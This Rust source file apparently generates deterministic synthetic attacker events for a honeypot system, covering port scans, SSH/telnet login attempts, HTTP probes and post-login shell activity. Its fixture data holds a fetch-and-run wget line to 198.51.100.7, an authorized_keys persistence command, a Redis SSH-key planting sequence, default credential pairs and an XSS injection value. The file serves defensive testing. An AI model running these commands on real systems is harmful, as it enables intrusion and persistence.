//! What visitors do: stories told as events.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::time::Duration;

use decnet::logic::event::{
    Creds, Data, DeckyPart, Event, Kind, Outcome, Raw, SCHEMA, SessionId, Source, Target, Transport,
};
use decnet::logic::mac::Mac;
use decnet::logic::persona;
use decnet::logic::time::Timestamp;
use uuid::Uuid;

const LOGINS: &[(&str, &str)] = &[
    ("root", "toor"),
    ("admin", "admin"),
    ("root", "123456"),
    ("pi", "raspberry"),
    ("oracle", "oracle"),
    ("root", "Zte521"),
    ("ubuntu", "ubuntu"),
    ("<script>alert(1)</script>", "\u{202e}drowssap"),
];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh",
    "cat /etc/passwd",
    "crontab -l",
    "echo \"ssh-rsa AAAAB3NzaC1yc2E\" >> ~/.ssh/authorized_keys",
    "free -m",
];
const PATHS: &[&str] =
    &["/", "/login", "/.env", "/wp-login.php", "/cgi-bin/luci", "/actuator/health", "/.git/config"];
const PERSONAS: &[&str] = &["debian-12", "windows-server-2022", "ubuntu-24.04", "printer"];
const NAMES: &[&str] = &["files", "web", "db", "print", "jump", "backup", "ci", "mail"];
const TCP: &str = "4:64+0:0:1460:mss*44,7:mss,sok,ts,nop,ws:df,id+:0";

/// Tells stories, always the same ones.
#[derive(Debug)]
pub(crate) struct Teller {
    /// The deckies they happen to.
    pub(crate) deckies: Vec<Arc<DeckyPart>>,
    bits: u64,
    boot: Uuid,
    clock: Timestamp,
    seq: u64,
    /// Longest time between two events, in milliseconds.
    pace: u16,
}

/// Where a connection comes from and goes to.
struct Call {
    decky: Arc<DeckyPart>,
    ip: IpAddr,
    port: u16,
    service: &'static str,
    session: SessionId,
}

impl Teller {
    /// A teller of `count` events, which end about `now` and took an hour.
    pub(crate) fn new(now: Timestamp, count: usize) -> Self {
        let deckies = (0..12_u8).map(|n| {
            let persona = persona::find(PERSONAS[usize::from(n) % PERSONAS.len()]).expect("known");
            let name = format!("{}-{:02}", NAMES[usize::from(n) % NAMES.len()], n + 1);
            let name = name.parse().expect("a name");
            let mac = persona.mac([n, 4, 7, n]);
            Arc::new(DeckyPart {
                hostname: persona::hostname(persona, &name, mac),
                name,
                ip: Ipv4Addr::new(192, 168, 1, 110 + n).into(),
                ip6: None,
                mac,
                persona: persona.id.into(),
            })
        });
        Self {
            deckies: deckies.collect(),
            bits: now.0 | 1,
            boot: Uuid::from_u128(u128::from(now.0)),
            clock: Timestamp(now.0.saturating_sub(3_600_000_000_000)),
            seq: 0,
            pace: u16::try_from(7_000_000 / count.max(1)).unwrap_or(u16::MAX).max(1),
        }
    }

    /// Adds whole visits until there are `count` events.
    pub(crate) fn visits(&mut self, to: &mut Vec<Event>, count: usize) {
        while to.len() < count {
            let ip = self.visitor();
            self.visit(to, ip);
        }
    }

    /// Adds `count` SYNs, each of another source.
    pub(crate) fn flood(&mut self, to: &mut Vec<Event>, count: usize) {
        for _ in 0..count {
            let [.., a, b] = self.seq.to_be_bytes();
            let ip = Ipv4Addr::new(10, 66, a, b).into();
            let call = self.call(ip, "tcp");
            let event = self.event(&call, Kind::ScanSyn);
            let data = Data::new().with("ports", vec![443]).with("packets", 1_u64);
            to.push(Event { session: None, service: None, data, ..event });
        }
    }

    /// Adds HTTP connections of one visitor until there are `count` events.
    pub(crate) fn conns(&mut self, to: &mut Vec<Event>, count: usize) {
        while to.len() < count {
            let call = self.call(Ipv4Addr::new(192, 168, 1, 7).into(), "http");
            to.push(self.event(&call, Kind::ConnOpen));
            let data = Data::new().with("method", "GET").with("path", "/");
            to.push(Event { data, ..self.event(&call, Kind::HttpRequest) });
            let data = Data::new().with("bytes_in", 78_u64).with("bytes_out", 812_u64);
            to.push(Event { data, ..self.event(&call, Kind::ConnClose) });
        }
    }

    /// Adds a small story that happens `now`.
    pub(crate) fn moment(&mut self, to: &mut Vec<Event>, now: Timestamp) {
        (self.clock, self.pace) = (now, 60);
        let ip = self.visitor();
        if self.below(3) == 0 { self.scan(to, ip) } else { self.connection(to, ip) }
    }

    fn visit(&mut self, to: &mut Vec<Event>, ip: IpAddr) {
        self.scan(to, ip);
        for _ in 0..=self.below(4) {
            self.connection(to, ip);
        }
    }

    fn scan(&mut self, to: &mut Vec<Event>, ip: IpAddr) {
        let call = self.call(ip, "tcp");
        let kinds = [Kind::ScanArp, Kind::ScanSyn, Kind::ScanFin, Kind::ScanXmas, Kind::ScanUdp];
        let kind = *self.pick(&kinds);
        let plain = |event| Event { session: None, service: None, ..event };
        if self.below(3) == 0 {
            to.push(plain(self.event(&call, Kind::SourceNew)));
            let print = plain(self.event(&call, Kind::FingerprintTcp));
            to.push(Event { data: Data::new().with("signature", TCP), ..print });
        }
        let ports = vec![21, 22, 23, 80, 443, 445, 3389, 6379];
        let data = Data::new().with("ports", ports).with("packets", 8 + self.below(900));
        to.push(Event { data, ..plain(self.event(&call, kind)) });
    }

    fn connection(&mut self, to: &mut Vec<Event>, ip: IpAddr) {
        let service = *self.pick(&["ssh", "http", "ftp", "telnet", "redis"]);
        let call = self.call(ip, service);
        to.push(self.event(&call, Kind::ConnOpen));
        match service {
            "http" => self.requests(to, &call),
            "redis" => self.commands(to, &call, &["INFO", "CONFIG SET dir /root/.ssh", "SAVE"]),
            _ => self.shell(to, &call),
        }
        let close = self.event(&call, Kind::ConnClose);
        let data = Data::new().with("bytes_in", self.below(4_000)).with("bytes_out", 812_u64);
        to.push(Event { data, ..close });
    }

    fn requests(&mut self, to: &mut Vec<Event>, call: &Call) {
        for _ in 0..=self.below(3) {
            let path = *self.pick(PATHS);
            let data = Data::new()
                .with("method", "GET")
                .with("target", path)
                .with("status", 404_u64)
                .with("user_agent", "Mozilla/5.0 zgrab/0.x")
                .with("headers", vec![("Host".to_owned(), call.decky.ip.to_string())]);
            let raw = Raw::of(format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes());
            let event = self.event(call, Kind::HttpRequest);
            to.push(Event { data, raw: Some(raw), ..event });
        }
    }

    fn shell(&mut self, to: &mut Vec<Event>, call: &Call) {
        if call.service == "ssh" {
            let print = self.event(call, Kind::FingerprintSsh);
            let data = Data::new()
                .with("hassh", "ec7378c1a92f5a8dde7e8b7a1ddf33d1")
                .with("client", "SSH-2.0-libssh_0.9.6");
            to.push(Event { data, ..print });
        }
        let mut outcome = Outcome::Failure;
        for turn in 0..=self.below(3) {
            let (user, password) = *self.pick(LOGINS);
            outcome = if turn == 2 { Outcome::Success } else { Outcome::Failure };
            let creds =
                Creds { user: Some(user.into()), password: Some(password.into()), key: None };
            let event = self.event(call, Kind::AuthAttempt);
            to.push(Event { creds: Some(creds), outcome: Some(outcome), ..event });
        }
        if outcome == Outcome::Success {
            self.commands(to, call, COMMANDS);
            let upload = self.event(call, Kind::FileUpload);
            let body = b"#!/bin/sh\n\x00\x01\x02\x7fELF kinsing\n".repeat(8);
            let data = Data::new().with("path", "/tmp/x.sh").with("bytes", body.len());
            to.push(Event { data, raw: Some(Raw::of(&body)), ..upload });
        }
    }

    fn commands(&mut self, to: &mut Vec<Event>, call: &Call, commands: &[&'static str]) {
        for command in commands {
            let data = Data::new().with("command", *command);
            to.push(Event { data, ..self.event(call, Kind::CmdInput) });
        }
    }

    fn call(&mut self, ip: IpAddr, service: &'static str) -> Call {
        let index = usize::from(self.below(12));
        let decky = self.deckies[index].clone();
        let (port, session) = (1024 + self.below(60_000), self.session());
        Call { decky, ip, port, service, session }
    }

    fn event(&mut self, call: &Call, kind: Kind) -> Event {
        self.seq += 1;
        self.clock = self.clock.plus(Duration::from_millis(self.below(self.pace).into()));
        let ports = [("ssh", 22), ("http", 80), ("ftp", 21), ("telnet", 23), ("redis", 6379)];
        let port = ports.iter().find(|(name, _)| *name == call.service).map(|(_, port)| *port);
        let [.., a, b] = self.bits.to_be_bytes();
        Event {
            schema: SCHEMA.into(),
            id: Uuid::from_u128(u128::from(self.clock.millis()) << 80 | u128::from(self.next())),
            ts: self.clock,
            node: "n1".into(),
            boot_id: self.boot,
            seq: self.seq,
            decky: Some(call.decky.clone()),
            src: Some(Source {
                ip: Some(call.ip),
                port: Some(call.port),
                mac: Some(Mac([0x00, 0x1b, 0x21, 0x0a, a & 1, b & 3])),
                vlan: None,
                tcp: Some(TCP.into()),
            }),
            dst: Some(Target { ip: call.decky.ip, port }),
            transport: Some(Transport::Tcp),
            service: Some(call.service.into()),
            session: Some(call.session),
            event: kind,
            outcome: None,
            creds: None,
            data: Data::new(),
            raw: None,
        }
    }

    /// Begins with the time, as those of an agent should: a store takes them faster so.
    fn session(&mut self) -> SessionId {
        let seconds = self.clock.millis() / 1_000;
        SessionId(seconds << 44 | self.next() >> 20)
    }

    fn visitor(&mut self) -> IpAddr {
        match self.below(4) {
            0 => Ipv4Addr::new(192, 168, 1, 7).into(),
            1 => Ipv4Addr::from(u32::from(self.below(250)) | 0xcb00_7100).into(),
            2 => Ipv4Addr::from(u32::from(self.below(250)) | 0xc633_6400).into(),
            _ => "2001:db8:7::1d0c".parse().expect("an address"),
        }
    }

    fn below(&mut self, limit: u16) -> u16 {
        u16::try_from(self.next() % u64::from(limit)).expect("below the limit")
    }

    fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        let count = u16::try_from(from.len()).expect("a short list");
        &from[usize::from(self.below(count))]
    }

    /// Xorshift: stories need no more.
    fn next(&mut self) -> u64 {
        self.bits ^= self.bits << 13;
        self.bits ^= self.bits >> 7;
        self.bits ^= self.bits << 17;
        self.bits
    }
}
